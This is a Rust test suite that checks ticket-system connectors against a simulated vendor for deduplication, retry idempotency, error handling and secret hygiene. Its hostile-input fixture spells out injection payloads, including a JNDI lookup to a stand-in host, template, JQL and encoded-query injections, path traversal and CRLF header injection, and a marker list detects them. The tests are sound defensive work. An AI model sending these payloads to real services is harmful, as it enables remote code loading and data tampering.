//! The behaviour every ticket connector ([`TicketSystem`]) shows, against a simulated vendor.
//!
//! A connector supplies a [`TicketHarness`]: how to build it, and the wiremock mocks that
//! translate its vendor's requests into operations on a [`VendorState`] (an in-memory
//! ticket store shared by every mock). The suite injects faults through the store
//! ([`Fault`]: a status before the vendor acts, or after it did, the way a 502 from a proxy
//! hides a ticket that was created), so each vendor's idempotency is checked the same way.
//!
//! Scenarios:
//! 1. `open` creates exactly one ticket with the draft's title, priority, description,
//!    tasks and labels; the [`TicketRef`](vowguard_core::TicketRef) names the component and the vendor's key.
//! 2. `open` again with the same fingerprint (in sequence and concurrently) returns the same
//!    ticket; another fingerprint opens another one.
//! 3. A create that failed with a 5xx *after* the vendor stored the ticket is retried (shared
//!    [`RetryPolicy`]) without a second ticket, in the same process and after a restart.
//! 4. After a restart (a new connector on the same data directory) `open` returns the ticket
//!    opened before.
//! 5. `update` adds one timeline entry with the text and the author; `resolve` closes the
//!    ticket with the note, and a second `resolve` changes nothing.
//! 6. 401/403 are [`ErrorKind::Unauthorized`], not retryable; 429 and 5xx are retryable and
//!    carry `Retry-After`; a 400 is rejected with the vendor's reason.
//! 7. Hostile text (quotes, newlines, `<script>`, `{{`, JSON/ADF/JQL/encoded-query breaking
//!    text) in every draft field, the fingerprint, an update and a note is encoded: it never
//!    reaches a URL or a header, the vendor stores it as text, and it cannot change the
//!    priority or match another incident's ticket.
//! 8. The credential never appears in errors (even when the vendor quotes it), logs or
//!    `Debug`.

use std::collections::VecDeque;
use std::path::Path;
use std::sync::{Arc, Mutex, MutexGuard};
use std::time::Duration;

use chrono::{TimeZone, Utc};
use vowguard_core::{ErrorKind, Priority, RetryPolicy, TicketDraft, TicketSystem, TicketUpdate};
use wiremock::{Mock, MockServer, Request, ResponseTemplate};

use crate::{LogCapture, fixtures};

/// Text that tries to break out of every encoding a ticket connector uses: JSON strings,
/// ADF nodes, Jira JQL, ServiceNow encoded queries, URL paths and query strings, HTTP
/// headers, HTML and template languages. Contains [`fixtures::HOSTILE`].
pub fn hostile_text() -> String {
    format!(
        "{} {{{{7*7}}}} ${{jndi:ldap://evil.example/a}} \"}}],\"type\":\"doc\"}} \
         \",\"priority\":{{\"name\":\"Lowest\"}},\"x\":\" labels = \"x\" OR project is not EMPTY \
         ^NQactive=true^ORDERBYnumber&sysparm_limit=10000 ../../../rest/api/3/issue/SEC-1?a=b#frag \
         %2e%2e%2f%0d%0aX-Injected: 1\u{0000}\u{001b}[31m",
        fixtures::HOSTILE
    )
}

/// Fragments of [`hostile_text`] that must never appear (decoded) in a URL path, a query
/// value or a header.
pub const HOSTILE_MARKERS: &[&str] = &[
    "<script>",
    "evil.example",
    "victim@",
    "^NQ",
    "sysparm_limit=10000",
    " OR project",
    "../",
    "X-Injected",
    "{{7*7}}",
    "jndi",
];

/// Which vendor operation a request performs (used to aim a [`Fault`]).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Operation {
    /// Creating a ticket.
    Create,
    /// Looking tickets up (a search, a lookup by dedup key, reading one ticket).
    Lookup,
    /// Adding a timeline entry (a comment, a work note).
    Update,
    /// Closing a ticket (a transition, a state change) or reading what closing needs.
    Resolve,
    /// A fault aimed at `Any` applies to the next request of any operation.
    Any,
}

/// A failure the simulated vendor answers with once, for the next request of an operation.
#[derive(Debug, Clone)]
pub struct Fault {
    /// Which operation it hits.
    pub operation: Operation,
    /// `false`: the vendor answers this instead of acting. `true`: the vendor acts (stores
    /// the ticket, the comment) and then answers this, as a proxy timing out would.
    pub after_commit: bool,
    /// The answer.
    pub response: ResponseTemplate,
}

/// One ticket as the simulated vendor stores it; the harness decodes the vendor's markup
/// (ADF, HTML) into plain text so the suite can compare it with the draft.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct VendorTicket {
    /// The vendor's key or id, as the connector must return it in [`TicketRef::key`](vowguard_core::TicketRef::key).
    pub key: String,
    /// The vendor-side dedup key the connector set (Jira label, ServiceNow
    /// `correlation_id`, TheHive `sourceRef`, ...).
    pub dedup_key: String,
    /// The stored title (summary, short description).
    pub title: String,
    /// The stored description, decoded to plain text (tasks included, one per line).
    pub description: String,
    /// The stored priority, in the vendor's terms.
    pub priority: String,
    /// The stored labels or tags.
    pub labels: Vec<String>,
    /// Timeline entries (comments, work notes), decoded to plain text.
    pub comments: Vec<String>,
    /// Whether the ticket is closed.
    pub resolved: bool,
    /// The closing note, decoded to plain text.
    pub resolution_note: Option<String>,
    /// How many times a close was applied (a second `resolve` must not apply another).
    pub resolutions: u32,
    /// The create request's JSON body, for the harness's own checks.
    pub raw: serde_json::Value,
}

/// The tickets a simulated vendor holds, and the faults it will answer with.
#[derive(Debug, Default)]
pub struct VendorTickets {
    tickets: Vec<VendorTicket>,
    faults: VecDeque<Fault>,
    counter: u64,
}

impl VendorTickets {
    /// A fresh number (1, 2, ...) for building vendor keys (`SEC-1`, a sys_id).
    pub fn next_number(&mut self) -> u64 {
        self.counter += 1;
        self.counter
    }

    /// Stores a new ticket.
    pub fn push(&mut self, ticket: VendorTicket) {
        self.tickets.push(ticket);
    }

    /// Every ticket, oldest first.
    pub fn all(&self) -> &[VendorTicket] {
        &self.tickets
    }

    /// The tickets whose dedup key is `dedup_key`, oldest first.
    pub fn by_dedup_key(&self, dedup_key: &str) -> Vec<&VendorTicket> {
        self.tickets
            .iter()
            .filter(|t| t.dedup_key == dedup_key)
            .collect()
    }

    /// The ticket with `key`.
    pub fn get(&self, key: &str) -> Option<&VendorTicket> {
        self.tickets.iter().find(|t| t.key == key)
    }

    /// The ticket with `key`, to change it.
    pub fn get_mut(&mut self, key: &str) -> Option<&mut VendorTicket> {
        self.tickets.iter_mut().find(|t| t.key == key)
    }

    fn take_fault(&mut self, operation: Operation, after_commit: bool) -> Option<ResponseTemplate> {
        let at = self.faults.iter().position(|f| {
            f.after_commit == after_commit
                && (f.operation == operation || f.operation == Operation::Any)
        })?;
        self.faults.remove(at).map(|f| f.response)
    }
}

/// The simulated vendor's state, shared by the harness's mocks and the suite. Cheap to
/// clone.
#[derive(Debug, Clone, Default)]
pub struct VendorState {
    inner: Arc<Mutex<VendorTickets>>,
}

impl VendorState {
    /// An empty vendor.
    pub fn new() -> Self {
        Self::default()
    }

    /// Locks the store (for harness mocks that need several steps).
    pub fn lock(&self) -> MutexGuard<'_, VendorTickets> {
        self.inner.lock().expect("vendor state poisoned")
    }

    /// Answers one request of `operation`: a pending fault aimed before the vendor acts is
    /// returned as is; otherwise `act` runs on the store, and a pending fault aimed after
    /// the vendor acted replaces its answer. Harness mocks wrap every handler in this.
    pub fn respond(
        &self,
        operation: Operation,
        act: impl FnOnce(&mut VendorTickets) -> ResponseTemplate,
    ) -> ResponseTemplate {
        let mut store = self.lock();
        if let Some(fault) = store.take_fault(operation, false) {
            return fault;
        }
        let answer = act(&mut store);
        store.take_fault(operation, true).unwrap_or(answer)
    }

    /// Queues a fault.
    pub fn inject(&self, fault: Fault) {
        self.lock().faults.push_back(fault);
    }

    /// A copy of every stored ticket, oldest first.
    pub fn tickets(&self) -> Vec<VendorTicket> {
        self.lock().tickets.clone()
    }

    /// Faults injected and not yet used.
    pub fn pending_faults(&self) -> usize {
        self.lock().faults.len()
    }
}

/// How one ticket connector is built and how its vendor is simulated.
pub trait TicketHarness: Send + Sync + 'static {
    /// The connector's name in failure messages.
    fn name(&self) -> &str;

    /// The credential (API token, password) the connector is built with; the suite checks
    /// it never leaks.
    fn secret(&self) -> &str {
        "vg-suite-secret-3f9a1c77"
    }

    /// Builds the connector as component `id` (`[tickets.<id>]`) against `base_url` (a
    /// wiremock server) with [`Self::secret`], keeping its state under `data_dir`. Building
    /// again with the same `data_dir` is a restart.
    fn build(&self, id: &str, base_url: &str, data_dir: &Path) -> Arc<dyn TicketSystem>;

    /// The mocks that simulate the vendor on top of `vendor`: every handler goes through
    /// [`VendorState::respond`] with the right [`Operation`]. Unmatched requests get
    /// wiremock's 404.
    fn vendor_mocks(&self, vendor: &VendorState) -> Vec<Mock>;

    /// The title the vendor should store for `title` (the connector's truncation and
    /// control-character rules).
    fn expected_title(&self, title: &str) -> String;

    /// The priority value the vendor should store for `priority` with the harness's config.
    fn expected_priority(&self, priority: Priority) -> String;

    /// A vendor answer refusing the request for good, and the reason expected in the error.
    fn rejection(&self) -> (ResponseTemplate, String) {
        (
            ResponseTemplate::new(400).set_body_string(r#"{"error":"field summary is required"}"#),
            "field summary is required".to_owned(),
        )
    }

    /// Extra checks on every request sent while handling hostile text (e.g. the body is
    /// valid JSON with only the expected fields, the ADF is well-formed).
    fn check_request(&self, request: &Request) -> Result<(), String> {
        let _ = request;
        Ok(())
    }

    /// The vendor's answer refusing the credential `secret` and quoting it, next to
    /// [`Self::echo_marker`]. Default: a 401 whose plain-text body quotes it.
    fn refuse_secret(&self, secret: &str) -> ResponseTemplate {
        ResponseTemplate::new(401).set_body_string(format!("{} {secret}", self.echo_marker()))
    }

    /// Text of [`Self::refuse_secret`]'s message expected in the error.
    fn echo_marker(&self) -> &str {
        "invalid credential"
    }
}

/// The component id the suite builds connectors as.
pub const COMPONENT_ID: &str = "suite";

fn policy() -> RetryPolicy {
    RetryPolicy::default()
        .with_max_attempts(4)
        .with_initial_backoff(std::time::Duration::from_millis(5))
        .with_max_backoff(std::time::Duration::from_millis(20))
        .with_max_retry_after(std::time::Duration::from_millis(20))
}

/// A fixed draft with a description, tasks, labels and weddings.
pub fn draft(fingerprint: &str) -> TicketDraft {
    let mut d = TicketDraft::new(
        "inc-0001",
        fingerprint,
        "Wedding Data Security Incident - evt-0001",
        Priority::P0Critical,
    );
    d.description = "Guest list exported from an unknown device.\nPlanner: alex".into();
    d.tasks = vec![
        "Lock affected accounts".into(),
        "Preserve forensic evidence".into(),
    ];
    d.labels = vec!["wedding-data".into()];
    d.wedding_ids = vec!["w-2026-06-20-smith".into()];
    d.event = Some(Arc::new(fixtures::event(1)));
    d.opened_at = Utc.with_ymd_and_hms(2026, 6, 20, 14, 3, 7).unwrap();
    d
}

/// A draft with [`hostile_text`] in every text field and the fingerprint.
pub fn hostile_draft() -> TicketDraft {
    let hostile = hostile_text();
    let mut d = draft(&format!("fp-{hostile}"));
    d.incident_id = format!("inc-{hostile}");
    d.title = format!("Wedding {hostile}");
    d.description = format!("{hostile}\nsecond line {hostile}");
    d.tasks = vec![format!("task {hostile}"), "plain task".into()];
    d.labels = vec![hostile.clone(), "ok-label".into()];
    d.wedding_ids = vec![hostile];
    d.event = Some(Arc::new(fixtures::hostile_event()));
    d.priority = Priority::P2Medium;
    d
}

fn update(text: &str) -> TicketUpdate {
    TicketUpdate {
        at: Utc.with_ymd_and_hms(2026, 6, 20, 14, 5, 0).unwrap(),
        author: "playbook:wedding-data-breach/lock-accounts".into(),
        text: text.to_owned(),
    }
}

struct Scenario {
    server: MockServer,
    vendor: VendorState,
    data_dir: tempfile::TempDir,
}

impl Scenario {
    async fn start<H: TicketHarness>(harness: &H) -> Self {
        let server = MockServer::start().await;
        let vendor = VendorState::new();
        for mock in harness.vendor_mocks(&vendor) {
            mock.mount(&server).await;
        }
        Self {
            server,
            vendor,
            data_dir: tempfile::tempdir().expect("temp dir"),
        }
    }

    fn build<H: TicketHarness>(&self, harness: &H) -> Arc<dyn TicketSystem> {
        harness.build(COMPONENT_ID, &self.server.uri(), self.data_dir.path())
    }

    async fn requests(&self) -> Vec<Request> {
        self.server.received_requests().await.unwrap_or_default()
    }
}

fn contains_line_by_line(haystack: &str, needle: &str) -> bool {
    needle
        .lines()
        .map(str::trim)
        .filter(|l| !l.is_empty())
        .all(|l| haystack.contains(l))
}

/// Runs every scenario; panics with the connector's name and the scenario on the first
/// failure. Call it from a `#[tokio::test]` (current-thread) so log capture sees every task.
pub async fn run<H: TicketHarness>(harness: H) {
    let name = harness.name().to_owned();
    let logs = LogCapture::start();
    let mut errors_seen: Vec<String> = Vec::new();

    // 1. open creates exactly one ticket, with the draft's content.
    let s = Scenario::start(&harness).await;
    let system = s.build(&harness);
    let d = draft("fp-0001");
    let opened = system.open(&d).await;
    let opened = opened.unwrap_or_else(|e| panic!("{name}: open: {e}"));
    let tickets = s.vendor.tickets();
    assert_eq!(tickets.len(), 1, "{name}: open creates one ticket");
    let t = &tickets[0];
    assert_eq!(
        opened.key, t.key,
        "{name}: TicketRef.key is the vendor's key"
    );
    assert_eq!(
        opened.system, COMPONENT_ID,
        "{name}: TicketRef.system is the id"
    );
    assert!(!t.dedup_key.is_empty(), "{name}: a vendor dedup key is set");
    assert_eq!(t.title, harness.expected_title(&d.title), "{name}: title");
    assert_eq!(
        t.priority,
        harness.expected_priority(d.priority),
        "{name}: priority"
    );
    assert!(
        contains_line_by_line(&t.description, &d.description),
        "{name}: description kept: {:?}",
        t.description
    );
    for task in &d.tasks {
        assert!(
            t.description.contains(task.as_str()),
            "{name}: task {task:?} on the ticket: {:?}",
            t.description
        );
    }
    for label in &d.labels {
        assert!(
            t.labels.iter().any(|l| l == label),
            "{name}: label {label:?} kept: {:?}",
            t.labels
        );
    }

    // 2. Same fingerprint: the same ticket, sequentially and concurrently; another
    //    fingerprint: another ticket.
    let again = system
        .open(&d)
        .await
        .unwrap_or_else(|e| panic!("{name}: second open: {e}"));
    assert_eq!(again.key, opened.key, "{name}: second open, same ticket");
    let (a, b) = tokio::join!(system.open(&d), system.open(&d));
    assert_eq!(
        a.unwrap_or_else(|e| panic!("{name}: concurrent open: {e}"))
            .key,
        opened.key,
        "{name}: concurrent open, same ticket"
    );
    assert_eq!(
        b.unwrap_or_else(|e| panic!("{name}: concurrent open: {e}"))
            .key,
        opened.key,
        "{name}: concurrent open, same ticket"
    );
    assert_eq!(s.vendor.tickets().len(), 1, "{name}: still one ticket");
    let other = system
        .open(&draft("fp-0002"))
        .await
        .unwrap_or_else(|e| panic!("{name}: open another: {e}"));
    assert_ne!(other.key, opened.key, "{name}: another fingerprint");
    let tickets = s.vendor.tickets();
    assert_eq!(tickets.len(), 2, "{name}: two fingerprints, two tickets");
    assert_ne!(
        tickets[0].dedup_key, tickets[1].dedup_key,
        "{name}: distinct dedup keys"
    );

    // 4. Restart: the same ticket, nothing created.
    drop(system);
    let restarted = s.build(&harness);
    let after_restart = restarted
        .open(&d)
        .await
        .unwrap_or_else(|e| panic!("{name}: open after restart: {e}"));
    assert_eq!(
        after_restart.key, opened.key,
        "{name}: restart, same ticket"
    );
    assert_eq!(
        s.vendor.tickets().len(),
        2,
        "{name}: restart creates nothing"
    );

    // 5. update adds one timeline entry; resolve closes once.
    restarted
        .update(&opened, &update("Accounts locked by playbook"))
        .await
        .unwrap_or_else(|e| panic!("{name}: update: {e}"));
    let t = s.vendor.lock().get(&opened.key).cloned().expect("ticket");
    assert_eq!(t.comments.len(), 1, "{name}: one timeline entry");
    assert!(
        t.comments[0].contains("Accounts locked by playbook"),
        "{name}: update text: {:?}",
        t.comments[0]
    );
    assert!(
        t.comments[0].contains("playbook:wedding-data-breach/lock-accounts"),
        "{name}: update author: {:?}",
        t.comments[0]
    );
    restarted
        .resolve(&opened, "Contained; guests notified")
        .await
        .unwrap_or_else(|e| panic!("{name}: resolve: {e}"));
    let t = s.vendor.lock().get(&opened.key).cloned().expect("ticket");
    assert!(t.resolved, "{name}: resolve closes the ticket");
    assert!(
        t.resolution_note
            .as_deref()
            .is_some_and(|n| n.contains("Contained; guests notified")),
        "{name}: closing note: {:?}",
        t.resolution_note
    );
    restarted
        .resolve(&opened, "Contained; guests notified")
        .await
        .unwrap_or_else(|e| panic!("{name}: second resolve: {e}"));
    let t = s.vendor.lock().get(&opened.key).cloned().expect("ticket");
    assert_eq!(t.resolutions, 1, "{name}: a second resolve changes nothing");
    let other_ticket = s.vendor.lock().get(&other.key).cloned().expect("ticket");
    assert!(!other_ticket.resolved, "{name}: only that ticket is closed");

    // 3. A create that failed after the vendor stored the ticket: retried without a
    //    duplicate, in the same process, then after a restart.
    for restart in [false, true] {
        let s = Scenario::start(&harness).await;
        let system = s.build(&harness);
        s.vendor.inject(Fault {
            operation: Operation::Create,
            after_commit: true,
            response: ResponseTemplate::new(502).set_body_string("upstream timed out"),
        });
        let d = draft("fp-0003");
        let first = system.open(&d).await;
        let error = first.expect_err("a 502 is an error");
        assert!(
            error.is_retryable(),
            "{name}: a 502 on create is retryable: {error}"
        );
        errors_seen.push(format!("{error} {error:?}"));
        assert_eq!(s.vendor.tickets().len(), 1, "{name}: the vendor stored it");
        let system = if restart { s.build(&harness) } else { system };
        let (result, _) = policy().run(|_| system.open(&d)).await;
        let got = result.unwrap_or_else(|e| {
            panic!("{name}: open after an ambiguous 502 (restart {restart}): {e}")
        });
        let tickets = s.vendor.tickets();
        assert_eq!(
            tickets.len(),
            1,
            "{name}: no duplicate after an ambiguous 502 (restart {restart})"
        );
        assert_eq!(got.key, tickets[0].key, "{name}: the stored ticket");
    }

    // 6. Errors: 401/403 unauthorized, 429/5xx retryable with Retry-After, 400 rejected.
    let s = Scenario::start(&harness).await;
    for status in [401, 403] {
        let system = s.build(&harness);
        s.vendor.inject(Fault {
            operation: Operation::Any,
            after_commit: false,
            response: ResponseTemplate::new(status).set_body_string("not allowed"),
        });
        let error = system
            .open(&draft(&format!("fp-auth-{status}")))
            .await
            .expect_err("a refused credential is an error");
        assert_eq!(
            error.kind(),
            ErrorKind::Unauthorized,
            "{name}: {status} is unauthorized: {error}"
        );
        assert!(!error.is_retryable(), "{name}: {status} is not retryable");
        errors_seen.push(format!("{error} {error:?}"));
    }
    assert_eq!(s.vendor.pending_faults(), 0, "{name}: faults were hit");
    assert!(s.vendor.tickets().is_empty(), "{name}: nothing created");
    for (status, kind) in [(429, ErrorKind::RateLimited), (503, ErrorKind::Unavailable)] {
        let system = s.build(&harness);
        s.vendor.inject(Fault {
            operation: Operation::Any,
            after_commit: false,
            response: ResponseTemplate::new(status).insert_header("Retry-After", "7"),
        });
        let error = system
            .open(&draft(&format!("fp-busy-{status}")))
            .await
            .expect_err("a busy vendor is an error");
        assert_eq!(error.kind(), kind, "{name}: {status}: {error}");
        assert!(error.is_retryable(), "{name}: {status} is retryable");
        assert_eq!(
            error.retry_after(),
            Some(Duration::from_secs(7)),
            "{name}: {status} carries Retry-After: {error}"
        );
        errors_seen.push(format!("{error} {error:?}"));
    }
    // Busy on update, then the retry policy gets it through once.
    let system = s.build(&harness);
    let ticket = system
        .open(&draft("fp-0004"))
        .await
        .unwrap_or_else(|e| panic!("{name}: open: {e}"));
    s.vendor.inject(Fault {
        operation: Operation::Update,
        after_commit: false,
        response: ResponseTemplate::new(429).insert_header("Retry-After", "1"),
    });
    let note = update("retried note");
    let (result, attempts) = policy().run(|_| system.update(&ticket, &note)).await;
    result.unwrap_or_else(|e| panic!("{name}: update after 429: {e}"));
    assert_eq!(attempts, 2, "{name}: one retry after a 429 on update");
    let t = s.vendor.lock().get(&ticket.key).cloned().expect("ticket");
    assert_eq!(t.comments.len(), 1, "{name}: the update landed once");
    let (rejection, reason) = harness.rejection();
    s.vendor.inject(Fault {
        operation: Operation::Create,
        after_commit: false,
        response: rejection,
    });
    let rejected = draft("fp-rejected");
    let (result, attempts) = policy().run(|_| system.open(&rejected)).await;
    let error = result.expect_err("a rejected create is an error");
    assert_eq!(error.kind(), ErrorKind::Rejected, "{name}: 400: {error}");
    assert_eq!(attempts, 1, "{name}: a rejection is not retried");
    assert!(
        error.to_string().contains(&reason),
        "{name}: the error carries the vendor's reason {reason:?}: {error}"
    );
    errors_seen.push(format!("{error} {error:?}"));

    // 7. Hostile text is encoded and changes nothing it should not.
    let s = Scenario::start(&harness).await;
    let system = s.build(&harness);
    let benign = system
        .open(&draft("fp-benign"))
        .await
        .unwrap_or_else(|e| panic!("{name}: open benign: {e}"));
    let hostile = hostile_draft();
    let opened = system
        .open(&hostile)
        .await
        .unwrap_or_else(|e| panic!("{name}: open hostile: {e}"));
    assert_ne!(
        opened.key, benign.key,
        "{name}: a hostile fingerprint matched another incident's ticket"
    );
    let again = system
        .open(&hostile)
        .await
        .unwrap_or_else(|e| panic!("{name}: open hostile again: {e}"));
    assert_eq!(again.key, opened.key, "{name}: hostile fingerprint dedups");
    let text = hostile_text();
    system
        .update(&opened, &update(&text))
        .await
        .unwrap_or_else(|e| panic!("{name}: hostile update: {e}"));
    system
        .resolve(&opened, &text)
        .await
        .unwrap_or_else(|e| panic!("{name}: hostile resolve: {e}"));
    let tickets = s.vendor.tickets();
    assert_eq!(tickets.len(), 2, "{name}: hostile: exactly two tickets");
    let t = s.vendor.lock().get(&opened.key).cloned().expect("ticket");
    assert_eq!(
        t.title,
        harness.expected_title(&hostile.title),
        "{name}: hostile title stored as text"
    );
    assert_eq!(
        t.priority,
        harness.expected_priority(hostile.priority),
        "{name}: hostile text changed the priority"
    );
    assert!(
        t.description.contains("<script>alert(1)</script>") && t.description.contains("{{7*7}}"),
        "{name}: hostile description stored as text: {:?}",
        t.description
    );
    assert!(
        t.comments
            .iter()
            .any(|c| c.contains("\"}],\"type\":\"doc\"}")),
        "{name}: hostile update stored as text: {:?}",
        t.comments
    );
    assert!(t.resolved, "{name}: hostile resolve closes");
    for marker in HOSTILE_MARKERS {
        assert!(
            !t.dedup_key.contains(marker),
            "{name}: hostile fingerprint reached the dedup key: {:?}",
            t.dedup_key
        );
    }
    let benign_ticket = s.vendor.lock().get(&benign.key).cloned().expect("ticket");
    assert!(
        !benign_ticket.resolved && benign_ticket.comments.is_empty(),
        "{name}: hostile text touched another ticket"
    );
    for request in s.requests().await {
        let path = percent_decode(request.url.path());
        for marker in HOSTILE_MARKERS {
            assert!(
                !path.contains(marker),
                "{name}: hostile text reached a URL path: {path}"
            );
        }
        for (key, value) in request.url.query_pairs() {
            for marker in HOSTILE_MARKERS {
                assert!(
                    !key.contains(marker) && !value.contains(marker),
                    "{name}: hostile text reached the query: {key}={value}"
                );
            }
        }
        for (header, value) in &request.headers {
            let value = String::from_utf8_lossy(value.as_bytes());
            for marker in HOSTILE_MARKERS {
                assert!(
                    !value.contains(marker),
                    "{name}: hostile text reached header {header}: {value}"
                );
            }
            assert!(
                !header.as_str().eq_ignore_ascii_case("x-injected"),
                "{name}: a header was injected"
            );
        }
        if let Err(why) = harness.check_request(&request) {
            panic!(
                "{name}: hostile request {} {}: {why}",
                request.method,
                request.url.path()
            );
        }
    }

    // 8. The credential never leaks.
    let secret = harness.secret().to_owned();
    let s = Scenario::start(&harness).await;
    let system = s.build(&harness);
    s.vendor.inject(Fault {
        operation: Operation::Any,
        after_commit: false,
        response: harness.refuse_secret(&secret),
    });
    let error = system
        .open(&draft("fp-secret"))
        .await
        .expect_err("a refused credential is an error");
    let shown = format!("{error} {error:?}");
    assert!(
        !shown.contains(&secret),
        "{name}: the secret appears in an error: {shown}"
    );
    assert!(
        error.to_string().contains(harness.echo_marker()),
        "{name}: the error keeps the vendor's reason {:?}: {error}",
        harness.echo_marker()
    );
    errors_seen.push(shown);
    assert!(
        !format!("{system:?}").contains(&secret),
        "{name}: the secret appears in Debug"
    );
    for shown in &errors_seen {
        assert!(
            !shown.contains(&secret),
            "{name}: the secret appears in an error: {shown}"
        );
    }
    let logged = logs.text();
    assert!(
        !logged.contains(&secret),
        "{name}: the secret appears in the logs:\n{logged}"
    );
    for entry in walk(s.data_dir.path()) {
        let bytes = std::fs::read(&entry).unwrap_or_default();
        assert!(
            !String::from_utf8_lossy(&bytes).contains(&secret),
            "{name}: the secret appears in state file {}",
            entry.display()
        );
    }
}

fn walk(dir: &Path) -> Vec<std::path::PathBuf> {
    let mut out = Vec::new();
    if let Ok(entries) = std::fs::read_dir(dir) {
        for entry in entries.flatten() {
            let path = entry.path();
            if path.is_dir() {
                out.extend(walk(&path));
            } else {
                out.push(path);
            }
        }
    }
    out
}

/// Decodes `%XX` escapes (invalid ones are kept as they are).
fn percent_decode(text: &str) -> String {
    let bytes = text.as_bytes();
    let mut out = Vec::with_capacity(bytes.len());
    let mut i = 0;
    while i < bytes.len() {
        if bytes[i] == b'%' && i + 2 < bytes.len() {
            let hex = std::str::from_utf8(&bytes[i + 1..i + 3]).unwrap_or("");
            if let Ok(b) = u8::from_str_radix(hex, 16) {
                out.push(b);
                i += 3;
                continue;
            }
        }
        out.push(bytes[i]);
        i += 1;
    }
    String::from_utf8_lossy(&out).into_owned()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn decodes_percent_escapes() {
        assert_eq!(percent_decode("/a%2e%2e%2Fb"), "/a../b");
        assert_eq!(percent_decode("%zz%4"), "%zz%4");
        assert_eq!(percent_decode("%41"), "A");
    }

    #[test]
    fn faults_before_and_after_commit() {
        let vendor = VendorState::new();
        vendor.inject(Fault {
            operation: Operation::Create,
            after_commit: true,
            response: ResponseTemplate::new(502),
        });
        vendor.inject(Fault {
            operation: Operation::Update,
            after_commit: false,
            response: ResponseTemplate::new(429),
        });
        let _ = vendor.respond(Operation::Create, |store| {
            let n = store.next_number();
            store.push(VendorTicket {
                key: format!("K-{n}"),
                ..VendorTicket::default()
            });
            ResponseTemplate::new(201)
        });
        assert_eq!(vendor.tickets().len(), 1, "acted before the fault");
        let mut acted = false;
        let _ = vendor.respond(Operation::Update, |_| {
            acted = true;
            ResponseTemplate::new(204)
        });
        assert!(!acted, "a fault before commit stops the vendor");
        assert_eq!(vendor.pending_faults(), 0);
    }

    #[test]
    fn hostile_text_carries_every_marker() {
        let text = hostile_text();
        for marker in HOSTILE_MARKERS {
            assert!(text.contains(marker), "{marker}");
        }
    }
}
